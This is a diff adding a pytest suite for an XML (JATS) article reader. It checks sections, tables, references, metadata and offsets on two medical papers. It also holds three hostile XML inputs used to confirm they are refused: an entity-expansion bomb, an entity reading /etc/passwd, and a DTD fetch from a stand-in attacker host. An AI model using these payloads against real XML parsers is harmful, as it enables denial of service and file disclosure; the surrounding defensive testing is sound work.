@@ -1,0 +1,204 @@
+"""JATS ingest on two real articles (tests/fixtures/README.md): sections, tables, references and front matter as
+the XML states them; offsets back into the XML; hostile XML refused without expanding or fetching anything."""
+
+from __future__ import annotations
+
+import socket
+from pathlib import Path
+
+import pytest
+
+from extractor.errors import MarkupError, UnsupportedFormat
+from extractor.ingest import load_document
+from extractor.ingest.document import Document
+from extractor.ingest.jats import read_jats
+from extractor.record import ArticleType, SourceFormat
+
+FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
+BMC = FIXTURES / "PMC1810515.nxml"  # RCT, structured abstract, 3 tables, 2 figures
+HINDAWI = FIXTURES / "PMC4735920.fulltext.xml"  # case report, 1 table with row and column spans, 1 figure
+
+
+@pytest.fixture(scope="module")
+def bmc() -> Document:
+    return read_jats(BMC, BMC.read_bytes())
+
+
+@pytest.fixture(scope="module")
+def hindawi() -> Document:
+    return read_jats(HINDAWI, HINDAWI.read_bytes())
+
+
+def _headed(doc: Document) -> list[tuple[str, str | None]]:
+    return [(s.name, s.heading) for s in doc.sections if s.heading]
+
+
+def _text_of(doc: Document, name: str) -> str:
+    return "".join(doc.text[s.start : s.end] for s in doc.sections if s.name == name)
+
+
+def test_sections_are_named_from_the_sec_titles(bmc: Document) -> None:
+    headed = _headed(bmc)
+    for expected in [("abstract", "Background"), ("abstract", "Trial Registration"), ("introduction", "Background"),
+                     ("methods", "Statistical analysis"), ("results", "Safety"), ("discussion", "Discussion"),
+                     ("conclusion", "Conclusion"), ("other", "Competing interests"), ("other", "Acknowledgements")]:
+        assert expected in headed
+    assert bmc.text.startswith("Pharmacokinetic profile of a 24-hour controlled-release OROS® formulation")
+    assert bmc.sections[0].name == "other"  # the title
+    assert "In an open-label, three-way, crossover study" in _text_of(bmc, "abstract")
+
+
+def test_nested_secs_keep_their_top_level_name(bmc: Document, hindawi: Document) -> None:
+    # "Subjects" is a subsection of Methods and of Results; classify_heading alone would not say which.
+    assert [name for name, heading in _headed(bmc) if heading == "Subjects"] == ["methods", "results"]
+    assert ("results", "2. Case Presentation") in _headed(hindawi)
+
+
+def test_reading_order_body_then_floats_then_references(bmc: Document) -> None:
+    first: dict[str, int] = {}
+    for s in bmc.sections:
+        first.setdefault(s.name, s.start)
+    order = ["abstract", "introduction", "methods", "results", "discussion", "conclusion", "table", "references"]
+    assert [first[name] for name in order] == sorted(first[name] for name in order)
+    assert bmc.sections[-1].name == "references"
+
+
+def test_sections_are_contiguous(bmc: Document, hindawi: Document) -> None:
+    for doc in (bmc, hindawi):
+        assert doc.sections[0].start == 0 and doc.sections[-1].end == len(doc.text)
+        assert all(a.end == b.start for a, b in zip(doc.sections, doc.sections[1:], strict=False))
+
+
+def test_table_rows_caption_and_flattened_text(bmc: Document) -> None:
+    assert [t.label for t in bmc.tables] == ["Table 1", "Table 2", "Table 3"]
+    table = bmc.tables[2]
+    assert table.caption == "Adverse events [n (%)] occurring in ≥ 10% of subjects in any treatment group"
+    assert table.rows[0] == ["Event", "Treatment Regimen A (fasting; n = 28)", "Treatment Regimen B (fed; n = 29)",
+                             "Treatment Regimen C (fasting with naltrexone block; n = 27)"]
+    assert table.rows[1] == ["Nausea", "6 (21.4)", "9 (31.0)", "7 (25.9)"]
+    flat = bmc.text[table.start : table.end]
+    assert flat.startswith("Table 3 Adverse events [n (%)]")
+    assert "\nNausea | 6 (21.4) | 9 (31.0) | 7 (25.9)\n" in flat
+    assert bmc.section_at(table.start) == "table" and bmc.section_at(table.end - 1) == "table"
+
+
+def test_row_and_column_spans_expand_to_a_grid(hindawi: Document) -> None:
+    (table,) = hindawi.tables
+    assert (table.label, table.caption) == ("Table 1", "Pentobarbital-containing veterinary euthanasia solutions [12].")
+    assert table.rows[0] == ["Pentobarbital-containing veterinary euthanasia solutions", "", "", ""]  # colspan=4
+    assert table.rows[3][0] == "Pentobarbital sodium for injection"  # rowspan=3 ...
+    assert table.rows[4][:2] == ["", "389 mg/mL in 100 mL or 250 mL vials"]  # ... covers the rows below
+    assert {len(row) for row in table.rows} == {4}
+
+
+def test_figure_captions_leave_the_body(hindawi: Document) -> None:
+    figures = [s for s in hindawi.sections if s.name == "figure_caption"]
+    assert [hindawi.text[s.start : s.end].strip() for s in figures] == ["Figure 1 Euthasol bottle and syringes."]
+    assert figures[0].start > max(s.start for s in hindawi.sections if s.name == "discussion")
+
+
+def test_references_are_kept_apart(hindawi: Document) -> None:
+    (refs,) = [s for s in hindawi.sections if s.name == "references"]
+    assert refs is hindawi.sections[-1]
+    listing = hindawi.text[refs.start : refs.end]
+    assert listing.startswith("1 Greenblatt D. J. Allen D.")
+    assert listing.count("\n") >= 14  # one line per reference
+    assert "secobarbital" not in hindawi.text[: refs.start]
+    assert "traumatic brain injury [1]." in _text_of(hindawi, "discussion")
+
+
+def test_front_matter_metadata(bmc: Document, hindawi: Document) -> None:
+    assert bmc.metadata == {
+        "title": "Pharmacokinetic profile of a 24-hour controlled-release OROS® formulation of hydromorphone in "
+                 "the presence and absence of food",
+        "doi": "10.1186/1472-6904-7-2", "pmid": "17270055", "pmcid": "PMC1810515",
+        "journal": "BMC Clinical Pharmacology", "year": 2007,
+    }  # research-article: no article_type, the text classifier decides (rct)
+    assert hindawi.metadata == {
+        "title": "Pentobarbital Toxicity after Self-Administration of Euthasol Veterinary Euthanasia Medication",
+        "doi": "10.1155/2016/6270491", "pmcid": "PMC4735920", "journal": "Case Reports in Emergency Medicine",
+        "year": 2016, "article_type": ArticleType.case_report,
+    }
+
+
+def test_offsets_point_into_the_xml(hindawi: Document) -> None:
+    raw = HINDAWI.read_text(encoding="utf-8")
+    for word in ("Euthasol", "fasciotomy", "Greenblatt", "Concentrations", "Pentobarbital-containing"):
+        at = hindawi.text.index(word)
+        src = hindawi.offset_map.to_source(at)
+        assert raw[src : src + len(word)] == word
+    micro = hindawi.offset_map.to_source(hindawi.text.index("μg/mL"))
+    assert raw[micro:].startswith("&#x003bc;</italic>g/mL")  # a character reference maps to where it stands
+
+
+def _article(body: str, doctype: str = "") -> bytes:
+    return (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<article article-type="review-article"><front>'
+            f"<article-meta><title-group><article-title>A title</article-title></title-group></article-meta>"
+            f"</front><body>{body}</body></article>").encode()
+
+
+def test_inline_markup_spacing() -> None:
+    data = _article(
+        '<sec sec-type="results"><title>Efficacy</title><p>Levels of 12.6&#x2009;<italic>&#x3bc;</italic>g/mL '
+        'were seen in cancer<sup><xref ref-type="bibr" rid="b1">12</xref></sup>, and <bold>not</bold> in '
+        "others.<list><list-item><p>first item</p></list-item><list-item><p>second item</p></list-item></list>"
+        'Then the text goes on.</p></sec>')
+    doc = read_jats(Path("inline.xml"), data)
+    assert "Levels of 12.6 μg/mL were seen in cancer 12, and not in others.\n\nfirst item\n\nsecond item\n\n" \
+           "Then the text goes on." in doc.text
+    assert ("results", "Efficacy") in _headed(doc)  # from sec-type: the title is not a known heading
+    assert doc.metadata["article_type"] is ArticleType.review
+
+
+BILLION_LAUGHS = """<?xml version="1.0"?>
+<!DOCTYPE article [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+]>
+<article><body><p>&lol9;</p></body></article>"""
+XXE_FILE = """<?xml version="1.0"?>
+<!DOCTYPE article [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<article><body><p>&xxe;</p></body></article>"""
+XXE_PARAMETER = """<?xml version="1.0"?>
+<!DOCTYPE article [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
+<article><body><p>x</p></body></article>"""
+
+
+@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER], ids=["billion-laughs", "xxe", "xxe-dtd"])
+def test_entity_attacks_are_refused_without_network(payload: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    def no_network(*args: object, **kwargs: object) -> None:
+        raise AssertionError("the reader tried to open a network connection")
+
+    monkeypatch.setattr(socket, "socket", no_network)
+    with pytest.raises(MarkupError, match="refused"):
+        read_jats(Path("evil.xml"), payload.encode())
+
+
+def test_doctype_line_of_real_files_is_accepted() -> None:
+    doctype = '<!DOCTYPE article PUBLIC "-//NLM//DTD JATS (Z39.96) Journal Archiving DTD v1.1//EN" "JATS-archive.dtd">'
+    doc = read_jats(Path("ok.xml"), _article("<p>Some body text.</p>", doctype))
+    assert doc.text == "A title\n\nSome body text."
+
+
+@pytest.mark.parametrize("data", [b"<article><body><p>unclosed</body></article>", b"<article>&nbsp;</article>"])
+def test_malformed_xml_raises_markup_error(data: bytes) -> None:
+    with pytest.raises(MarkupError, match="malformed"):
+        read_jats(Path("bad.xml"), data)
+
+
+def test_xml_that_is_not_jats_is_unsupported() -> None:
+    with pytest.raises(UnsupportedFormat):
+        read_jats(Path("feed.xml"), b"<rss><channel><title>news</title></channel></rss>")
+
+
+def test_load_document_reads_nxml_as_jats() -> None:
+    doc = load_document(BMC)
+    assert doc.source.format is SourceFormat.xml and len(doc.tables) == 3
+
+
+def test_absurd_nesting_is_refused_not_crashed() -> None:
+    deep = "<sec>" * 5000 + "<p>x</p>" + "</sec>" * 5000
+    with pytest.raises(MarkupError, match="nested too deeply"):
+        read_jats(Path("deep.xml"), _article(deep))
